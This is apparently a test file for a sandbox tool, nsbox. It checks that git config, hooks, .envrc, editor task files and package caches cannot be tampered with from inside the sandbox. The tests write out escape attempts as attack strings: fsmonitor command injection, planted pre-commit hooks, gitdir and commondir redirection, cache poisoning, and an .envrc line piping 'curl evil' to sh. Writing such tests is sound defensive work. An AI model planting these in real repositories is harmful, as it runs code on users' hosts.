// Host trust, writable shares: files the host runs later (git config and hooks, .envrc, editor
// tasks) are read-only inside or moved aside after the run; shared package caches and dependency
// directories keep their files; the current directory is shared only when it is a project.
// Every attack has a control: the same action on an unprotected path, or with the opt-in.
import { describe, expect, it, setDefaultTimeout } from "bun:test";
import { chmodSync, chownSync, existsSync, linkSync, mkdirSync, readdirSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { NsboxError, run } from "../src/index.ts";
import { cleanedUp, collect, homeIn, nsbox, scratchIn, sh } from "./helpers.ts";

setDefaultTimeout(60_000);
const made = cleanedUp();
const isRoot = process.getuid!() === 0;

/** git on the host, with no system or user config of the machine's. */
function git(cwd: string, ...args: string[]) {
  const home = homeIn(made);
  return collect(["git", "-c", "user.email=t@example.test", "-c", "user.name=t", "-c", "protocol.file.allow=always", ...args], {
    cwd,
    env: { PATH: process.env.PATH, HOME: home, GIT_CONFIG_NOSYSTEM: "1" },
  });
}

/** A repository with one commit, the sandbox's current directory. */
async function repo(): Promise<string> {
  const dir = scratchIn(made);
  expect((await git(dir, "init", "-q", ".")).exitCode).toBe(0);
  writeFileSync(join(dir, "README"), "hello\n");
  expect((await git(dir, "add", "README")).exitCode).toBe(0);
  expect((await git(dir, "commit", "-q", "-m", "init")).exitCode).toBe(0);
  return dir;
}

/** Inside: git with an identity (the sandbox's $HOME is empty). */
const G = "git -c user.email=t@example.test -c user.name=t";

describe("git inside a writable share", () => {
  it("core.fsmonitor cannot be set, so the host's next git status runs nothing; --rw .git/config lets it through", async () => {
    const cwd = await repo();
    const mark = join(cwd, "..", `fsmonitor-${Date.now()}`);
    made.push(mark);
    const attack = `git config core.fsmonitor 'touch ${mark} #' && echo set`;
    const r = await sh(attack, { cwd });
    expect(r.stdout).not.toContain("set");
    await git(cwd, "status");
    expect(existsSync(mark)).toBe(false);
    // Control: opened explicitly, the same command reaches the host's git.
    const opened = await sh(attack, { cwd }, ["--rw", ".git/config"]);
    expect(opened.stdout).toBe("set\n");
    await git(cwd, "status");
    expect(existsSync(mark)).toBe(true);
  });

  it("a new hook cannot be written, so the host's commit runs none; --rw .git/hooks lets it through", async () => {
    const cwd = await repo();
    const attack = `printf '#!/bin/sh\\necho HOOK-RAN\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo planted`;
    expect((await sh(attack, { cwd })).stdout).not.toContain("planted");
    const c = await git(cwd, "commit", "-q", "--allow-empty", "-m", "x");
    expect(c.stdout + c.stderr).not.toContain("HOOK-RAN");
    expect((await sh(attack, { cwd }, ["--rw", ".git/hooks"])).stdout).toBe("planted\n");
    const c2 = await git(cwd, "commit", "-q", "--allow-empty", "-m", "y");
    expect(c2.stdout + c2.stderr).toContain("HOOK-RAN");
  });

  it("renaming .git away and making a new one fails (it is a mount point); the host's repository is untouched", async () => {
    const cwd = await repo();
    const r = await sh(`mv .git .git2 && echo moved; git init -q . 2>/dev/null; git config core.fsmonitor 'touch x' 2>/dev/null && echo set; ls -A`, { cwd });
    expect(r.stdout).not.toContain("moved");
    expect(r.stdout).not.toContain("set");
    expect(existsSync(join(cwd, ".git2"))).toBe(false);
    expect((await git(cwd, "log", "--format=%s")).stdout).toBe("init\n");
    // Control: a directory that is not protected moves.
    mkdirSync(join(cwd, "plain"));
    expect((await sh("mv plain plain2 && echo moved", { cwd })).stdout).toBe("moved\n");
  });

  it("commits inside keep working: index, objects, refs, HEAD and logs stay writable", async () => {
    const cwd = await repo();
    const r = await sh(`echo more >> README && ${G} commit -q -am inside && git checkout -q -b topic && ${G} commit -q --allow-empty -m second && echo done`, { cwd });
    expect(r).toMatchObject({ stdout: "done\n", exitCode: 0 });
    expect((await git(cwd, "log", "--format=%s", "topic")).stdout).toBe("second\ninside\ninit\n");
  });

  it("core.hooksPath's directory is read-only when it exists, and moved aside when the sandbox creates it", async () => {
    const cwd = await repo();
    await git(cwd, "config", "core.hooksPath", "tools/hooks");
    // Missing: created inside, gone from its place afterwards, with a warning.
    const r = await sh("mkdir -p tools/hooks && printf '#!/bin/sh\\necho HOOK-RAN\\n' > tools/hooks/pre-commit && chmod +x tools/hooks/pre-commit && echo planted", { cwd });
    expect(r.stdout).toBe("planted\n");
    expect(r.stderr).toContain(`${cwd}/tools was created inside the sandbox`);
    expect(existsSync(join(cwd, "tools/hooks"))).toBe(false);
    const c = await git(cwd, "commit", "-q", "--allow-empty", "-m", "x");
    expect(c.stdout + c.stderr).not.toContain("HOOK-RAN");
    // Existing: read-only, and its parent cannot be renamed to put a fresh copy in its place;
    // a sibling file stays writable (the control).
    mkdirSync(join(cwd, "tools/hooks"), { recursive: true });
    const r2 = await sh("echo x > tools/hooks/pre-commit && echo planted; mv tools tools2 && echo moved; echo x > tools/other && echo wrote", { cwd });
    expect(r2.stdout).toBe("wrote\n");
    expect(existsSync(join(cwd, "tools2"))).toBe(false);
  });

  it("a program of the project that the config runs (a filter, an alias) is read-only; other scripts stay writable", async () => {
    const cwd = await repo();
    mkdirSync(join(cwd, "scripts"));
    for (const f of ["clean.sh", "tool.sh", "other.sh"]) writeFileSync(join(cwd, "scripts", f), "#!/bin/sh\ncat\n");
    await git(cwd, "config", "filter.x.clean", "./scripts/clean.sh --flag");
    await git(cwd, "config", "alias.t", "!scripts/tool.sh");
    const r = await sh("echo evil >> scripts/clean.sh && echo clean; echo evil >> scripts/tool.sh && echo tool; echo ok >> scripts/other.sh && echo control", { cwd });
    expect(r.stdout).toBe("control\n");
  });

  it("a config include inside the project is read-only", async () => {
    const cwd = await repo();
    writeFileSync(join(cwd, "gitinc"), "[user]\n\tname = x\n");
    await git(cwd, "config", "include.path", "../gitinc");
    const r = await sh("echo '[core] fsmonitor = touch x' >> gitinc && echo wrote; echo x >> README && echo control", { cwd });
    expect(r.stdout).toBe("control\n");
  });

  it("a submodule's config, hooks and .git file are read-only; --rw .git/modules opens its gitdir", async () => {
    const lib = await repo();
    const cwd = await repo();
    expect((await git(cwd, "submodule", "add", "-q", lib, "sub")).exitCode).toBe(0);
    const attack = "git -C sub config core.fsmonitor 'touch x' && echo set; echo x > .git/modules/sub/hooks/post-checkout && echo hook; echo 'gitdir: /tmp/evil' > sub/.git && echo gitfile; " +
      "mv sub sub2 && echo moved-sub; mv .git/modules .git/modules2 && echo moved-modules; echo x > sub/README2 && echo control";
    const r = await sh(attack, { cwd });
    expect(r.stdout).toBe("control\n");
    expect(readFileSync(join(cwd, "sub/.git"), "utf8")).toContain("modules/sub");
    const opened = await sh("git -C sub config core.fsmonitor 'touch x' && echo set", { cwd }, ["--rw", ".git/modules"]);
    expect(opened.stdout).toBe("set\n");
  });

  it("a linked worktree's commondir is read-only, and a new config.worktree is moved aside", async () => {
    const cwd = await repo();
    expect((await git(cwd, "worktree", "add", "-q", "wt")).exitCode).toBe(0);
    const r = await sh("echo /tmp/evil > .git/worktrees/wt/commondir && echo commondir; echo '[core] fsmonitor = x' > .git/worktrees/wt/config.worktree && echo created; echo x > .git/worktrees/wt/other && echo control", { cwd });
    expect(r.stdout).toBe("created\ncontrol\n");
    expect(existsSync(join(cwd, ".git/worktrees/wt/other"))).toBe(true);
    expect(existsSync(join(cwd, ".git/worktrees/wt/config.worktree"))).toBe(false);
    expect(readFileSync(join(cwd, ".git/worktrees/wt/commondir"), "utf8")).toBe("../..\n");
  });

  it("a new .git/commondir (git would take its config and hooks from the directory it names) is moved aside; an ordinary new file in .git stays", async () => {
    const cwd = await repo();
    const evil = join(cwd, "evil");
    const r = await sh(`cp -r .git evil && git config -f evil/config core.fsmonitor 'touch x' && echo ${evil} > .git/commondir && echo planted; echo x > .git/ordinary`, { cwd });
    expect(r.stdout).toBe("planted\n");
    expect(r.stderr).toContain(`${cwd}/.git/commondir was created inside the sandbox`);
    expect(existsSync(join(cwd, ".git/commondir"))).toBe(false);
    expect(readFileSync(join(cwd, ".git/ordinary"), "utf8")).toBe("x\n");
    expect((await git(cwd, "log", "--format=%s")).stdout).toBe("init\n");
  });

  it("a .git that is a symlink to a git directory in the project: that directory is guarded, commits still work", async () => {
    const cwd = await repo();
    mkdirSync(join(cwd, ".repo"));
    await collect(["mv", join(cwd, ".git"), join(cwd, ".repo/git")]);
    symlinkSync(".repo/git", join(cwd, ".git"));
    const r = await sh(`git config core.fsmonitor 'touch x' && echo set; ${G} commit -q --allow-empty -m inside && echo committed`, { cwd });
    expect(r.stdout).toBe("committed\n");
    expect((await git(cwd, "log", "--format=%s")).stdout).toBe("inside\ninit\n");
  });

  it("a .git file (gitdir:) at the root is read-only", async () => {
    const cwd = scratchIn(made);
    writeFileSync(join(cwd, ".git"), "gitdir: ../elsewhere\n");
    writeFileSync(join(cwd, "other"), "x\n");
    const r = await sh("echo 'gitdir: /tmp/evil' > .git && echo wrote; echo y > other && echo control", { cwd });
    expect(r.stdout).toBe("control\n");
    expect(readFileSync(join(cwd, ".git"), "utf8")).toBe("gitdir: ../elsewhere\n");
  });

  it("a new .git where there was none (the share is a repository's subdirectory) is moved aside", async () => {
    const top = await repo();
    const cwd = join(top, "src");
    mkdirSync(cwd);
    const r = await sh(`git init -q . && git config core.fsmonitor 'touch x' && echo made`, { cwd });
    expect(r.stdout).toBe("made\n");
    expect(existsSync(join(cwd, ".git"))).toBe(false);
    expect(readdirSync(cwd).some((n) => n.startsWith(".git.nsbox-blocked-"))).toBe(true);
    // Control: asked for with --rw-try ./.git, the new repository stays.
    const other = join(top, "lib");
    mkdirSync(other);
    expect((await sh("git init -q . && echo made", { cwd: other }, ["--rw-try", "./.git"])).stdout).toBe("made\n");
    expect(existsSync(join(other, ".git/config"))).toBe(true);
  });
});

describe("other files the host runs", () => {
  it("a new .envrc, .vscode/tasks.json, .idea and nsbox.json are moved aside with a warning; an ordinary new file stays", async () => {
    const cwd = scratchIn(made);
    const r = await sh("echo 'curl evil | sh' > .envrc; mkdir .vscode .idea; echo '{}' > .vscode/tasks.json; echo '{}' > nsbox.json; echo ok > ordinary", { cwd });
    expect(r.exitCode).toBe(0);
    for (const name of [".envrc", ".vscode", ".idea", "nsbox.json"]) {
      expect(existsSync(join(cwd, name))).toBe(false);
      expect(r.stderr).toContain(`${cwd}/${name} was created inside the sandbox`);
    }
    const names = readdirSync(cwd);
    expect(names.filter((n) => n.includes(".nsbox-blocked-")).length).toBe(4);
    expect(readFileSync(join(cwd, "ordinary"), "utf8")).toBe("ok\n");
  });

  it("--rw-try ./.envrc lets a run create it", async () => {
    const cwd = scratchIn(made);
    const r = await sh("echo 'export A=1' > .envrc", { cwd }, ["--rw-try", "./.envrc"]);
    expect(r).toMatchObject({ stderr: "", exitCode: 0 });
    expect(readFileSync(join(cwd, ".envrc"), "utf8")).toBe("export A=1\n");
  });

  it("existing .envrc and .vscode are read-only; --rw opens them", async () => {
    const cwd = scratchIn(made);
    writeFileSync(join(cwd, ".envrc"), "export A=1\n");
    mkdirSync(join(cwd, ".vscode"));
    const attack = "echo 'curl evil | sh' >> .envrc && echo envrc; echo '{}' > .vscode/tasks.json && echo tasks; rm -f .envrc && echo removed";
    expect((await sh(attack, { cwd })).stdout).toBe("");
    expect(readFileSync(join(cwd, ".envrc"), "utf8")).toBe("export A=1\n");
    const opened = await sh("echo 'B=2' >> .envrc && echo envrc; echo '{}' > .vscode/tasks.json && echo tasks", { cwd }, ["--rw", ".envrc", "--rw", ".vscode"]);
    expect(opened.stdout).toBe("envrc\ntasks\n");
  });

  it("a .envrc that is a symlink into the project: the file it names is read-only, and a replaced link is moved aside (never followed)", async () => {
    const cwd = scratchIn(made);
    mkdirSync(join(cwd, "scripts"));
    writeFileSync(join(cwd, "scripts/env.sh"), "export A=1\n");
    writeFileSync(join(cwd, "scripts/other.sh"), "x\n");
    symlinkSync("scripts/env.sh", join(cwd, ".envrc"));
    const victim = join(scratchIn(made), "victim");
    writeFileSync(victim, "safe\n");
    const r = await sh(`echo evil >> scripts/env.sh && echo wrote; echo y >> scripts/other.sh && echo control; rm .envrc && ln -s ${victim} .envrc && echo relinked`, { cwd });
    expect(r.stdout).toBe("control\nrelinked\n");
    expect(readFileSync(join(cwd, "scripts/env.sh"), "utf8")).toBe("export A=1\n");
    expect(existsSync(join(cwd, ".envrc"))).toBe(false);
    expect(readFileSync(victim, "utf8")).toBe("safe\n");
  });

  it("a --rw share and a --bind share are guarded the same way", async () => {
    const other = await repo();
    const cwd = scratchIn(made);
    for (const extra of [["--rw", other], ["--bind", `${other}:/mnt`]]) {
      const dir = extra[0] === "--rw" ? other : "/mnt";
      const r = await sh(`git -C ${dir} config core.fsmonitor 'touch x' && echo set; echo x > ${dir}/.envrc; echo y > ${dir}/plain && echo control`, { cwd }, extra);
      expect(r.stdout).toBe("control\n");
      expect(existsSync(join(other, ".envrc"))).toBe(false);
    }
  });

  it("a share holding several repositories guards each one's .git (one level down)", async () => {
    const cwd = scratchIn(made);
    const inner = join(cwd, "p1");
    mkdirSync(inner);
    expect((await git(inner, "init", "-q", ".")).exitCode).toBe(0);
    const r = await sh(`git -C p1 config core.fsmonitor 'touch x' && echo set; echo x > p1/.git/hooks/pre-commit && echo hook; echo y > p1/plain && echo control`, { cwd });
    expect(r.stdout).toBe("control\n");
  });

  it("sharing a parent directory over the current one keeps the current one's .git guarded", async () => {
    const cwd = await repo();
    const r = await sh(`git config core.fsmonitor 'touch x' && echo set; echo y > plain && echo control`, { cwd }, ["--rw", join(cwd, "..")].slice(0, isRoot ? 2 : 2));
    expect(r.stdout).toBe("control\n");
  });
});

describe("shared stores", () => {
  /** A home whose Bun cache holds the extracted dependency of a project (as a host install left it). */
  async function installed(): Promise<{ home: string; cwd: string; cached: string }> {
    const home = homeIn(made);
    const pkg = scratchIn(made);
    writeFileSync(join(pkg, "package.json"), JSON.stringify({ name: "dep", version: "1.0.0", main: "index.js" }));
    writeFileSync(join(pkg, "index.js"), 'module.exports = "dep-ok";\n');
    const cwd = scratchIn(made);
    expect((await collect(["tar", "czf", join(cwd, "dep.tgz"), "--transform", "s,^\\.,package,", "."], { cwd: pkg })).exitCode).toBe(0);
    writeFileSync(join(cwd, "package.json"), JSON.stringify({ name: "p", version: "1.0.0", dependencies: { dep: "file:./dep.tgz" } }));
    const env = { ...process.env, HOME: home };
    expect((await collect(["bun", "install"], { cwd, env })).exitCode).toBe(0);
    const cacheDir = join(home, ".bun/install/cache");
    const entry = readdirSync(cacheDir).find((n) => existsSync(join(cacheDir, n, "index.js")));
    expect(entry).toBeDefined();
    return { home, cwd, cached: join(cacheDir, entry!, "index.js") };
  }
  const hostRequire = async (cwd: string, home: string) => {
    await collect(["rm", "-rf", "node_modules"], { cwd });
    await collect(["bun", "install"], { cwd, env: { ...process.env, HOME: home } });
    return (await collect(["bun", "-e", 'console.log(require("dep"))'], { cwd, env: { ...process.env, HOME: home } })).stdout;
  };

  it("-p install: a cached package rewritten inside is unchanged on the host, and installs inside work; --rw of the cache lets it through", async () => {
    const { home, cwd, cached } = await installed();
    const attack = `echo 'module.exports = "pwned";' > ${cached} && echo rewrote; rm -rf node_modules && bun install >/dev/null 2>&1 && bun -e 'console.log(require("dep"))'`;
    const r = await sh(attack, { cwd, env: { ...process.env, HOME: home } }, ["-p", "install"]);
    expect(r.stdout).toBe("rewrote\npwned\n"); // inside, the payload sees its own write
    expect(readFileSync(cached, "utf8")).toBe('module.exports = "dep-ok";\n');
    expect(await hostRequire(cwd, home)).toBe("dep-ok\n");
    // Control: the cache shared read-write, as before.
    const c = await sh(`echo 'module.exports = "pwned";' > ${cached} && echo rewrote`, { cwd, env: { ...process.env, HOME: home } }, ["-p", "install", "--rw", "~/.bun/install/cache"]);
    expect(c.stdout).toBe("rewrote\n");
    expect(await hostRequire(cwd, home)).toBe("pwned\n");
  });

  it("-p test: no file of node_modules changes in place (a hard link into a global store stays intact); .cache and .vite work", async () => {
    const cwd = scratchIn(made);
    const store = join(scratchIn(made), "store-file.js");
    writeFileSync(store, "original\n");
    mkdirSync(join(cwd, "node_modules/dep"), { recursive: true });
    linkSync(store, join(cwd, "node_modules/dep/index.js"));
    mkdirSync(join(cwd, ".venv/lib"), { recursive: true });
    writeFileSync(join(cwd, ".venv/lib/site.py"), "original\n");
    const attack = "echo pwned > node_modules/dep/index.js; echo pwned > .venv/lib/site.py; mkdir -p node_modules/.cache/x node_modules/.vite && echo c > node_modules/.cache/x/f && echo v > node_modules/.vite/f && cat node_modules/.cache/x/f node_modules/.vite/f node_modules/dep/index.js";
    const r = await sh(attack, { cwd }, ["-p", "test"]);
    expect(r).toMatchObject({ stdout: "c\nv\npwned\n", exitCode: 0 });
    expect(readFileSync(store, "utf8")).toBe("original\n");
    expect(readFileSync(join(cwd, ".venv/lib/site.py"), "utf8")).toBe("original\n");
    // Control: the default profile writes through the hard link into the store.
    await sh("echo pwned > node_modules/dep/index.js", { cwd });
    expect(readFileSync(store, "utf8")).toBe("pwned\n");
  });
});

describe("the current directory is shared only when it is a project", () => {
  const refused = (r: { exitCode: number; stderr: string }, dir: string) => {
    expect(r.exitCode).toBe(125);
    expect(r.stderr).toContain(`not sharing the current directory ${dir}`);
    expect(r.stderr).toContain("--no-cwd");
    expect(r.stderr.trim().split("\n").length).toBe(1);
  };

  for (const dir of ["/tmp", "/var/tmp", "/dev/shm", "/proc", "/proc/sys", "/sys", "/dev"]) {
    it(`refuses ${dir}; --no-cwd runs`, async () => {
      if (!existsSync(dir)) return; // not on this host
      refused(await sh("ls", { cwd: dir }), realpathSync(dir));
      expect((await sh("echo ok", { cwd: dir }, ["--no-cwd"])).stdout).toBe("ok\n");
    });
  }

  it("--rw /tmp shares it when that is really meant", async () => {
    const r = await sh("test -w /tmp && echo ok", { cwd: "/tmp" }, ["--rw", "/tmp"]);
    expect(r).toMatchObject({ stdout: "ok\n", exitCode: 0 });
  });

  it("refuses $XDG_RUNTIME_DIR and below it", async () => {
    const runtime = scratchIn(made);
    mkdirSync(join(runtime, "gnupg"));
    for (const cwd of [runtime, join(runtime, "gnupg")]) refused(await sh("ls", { cwd, env: { ...process.env, XDG_RUNTIME_DIR: runtime } }), cwd);
    // Control: the same directory without the variable pointing at it is a project.
    expect((await sh("echo ok", { cwd: runtime, env: { ...process.env, XDG_RUNTIME_DIR: "/nonexistent" } })).stdout).toBe("ok\n");
  });

  it("refuses a directory others can write to; the same directory 0755 is shared", async () => {
    const cwd = scratchIn(made);
    chmodSync(cwd, 0o777);
    const r = await sh("ls", { cwd });
    refused(r, cwd);
    expect(r.stderr).toContain(`other users can write to it (if it is your project: chmod o-w ${cwd})`);
    chmodSync(cwd, 0o755);
    expect((await sh("echo x > f && echo ok", { cwd })).stdout).toBe("ok\n");
  });

  it("refuses a directory that belongs to someone else", async () => {
    let cwd = "/usr/share";
    if (isRoot) {
      cwd = scratchIn(made);
      chownSync(cwd, 65534, 65534);
    }
    refused(await sh("ls", { cwd }), cwd);
  });

  it("refuses a directory holding a Unix socket (tmux's, an agent's); without it, it is shared", async () => {
    const cwd = scratchIn(made);
    const server = createServer(() => {}).listen(join(cwd, "default"));
    await new Promise((r) => server.once("listening", r));
    try {
      const r = await sh("ls", { cwd });
      refused(r, cwd);
      expect(r.stderr).toContain("it holds the Unix socket default (a server or agent of yours: if it is your project, have it listen elsewhere, as ./run/default, and name that with --allow-socket when the sandbox needs it)");
    } finally {
      server.close();
    }
    await collect(["rm", "-f", join(cwd, "default")]);
    expect((await sh("echo ok", { cwd })).stdout).toBe("ok\n");
  });

  it("refuses a directory inside .git", async () => {
    const top = await repo();
    refused(await sh("ls", { cwd: join(top, ".git/hooks") }), join(top, ".git/hooks"));
    expect((await sh("echo ok", { cwd: top })).stdout).toBe("ok\n");
  });

  it("the library's cwd follows the same rule, and its refusal names the library's options, not the command line's", async () => {
    await expect(run(["true"], { cwd: "/tmp" })).rejects.toThrow(NsboxError);
    const e = await run(["true"], { cwd: "/tmp" }).catch((x) => x);
    expect(e).toMatchObject({ code: "BAD_OPTION", option: "cwd" });
    expect(e.message).toStartWith("cwd /tmp: not sharing it: every user shares it");
    expect(e.message).toContain('noCwd: true to share nothing, or mounts: [{ kind: "rw", source: "/tmp" }] if you really mean to share it');
    expect(e.message).not.toContain("--");
    expect((await run(["true"], { cwd: "/tmp", noCwd: true })).exitCode).toBe(0);
    expect((await run(["true"], { cwd: scratchIn(made) })).exitCode).toBe(0);
  });

  it("$HOME is still a note, not an error", async () => {
    const home = homeIn(made);
    const r = await sh("echo ok", { cwd: home, env: { ...process.env, HOME: home } });
    expect(r).toMatchObject({ stdout: "ok\n", exitCode: 0 });
    expect(r.stderr).toContain("not sharing");
  });
});
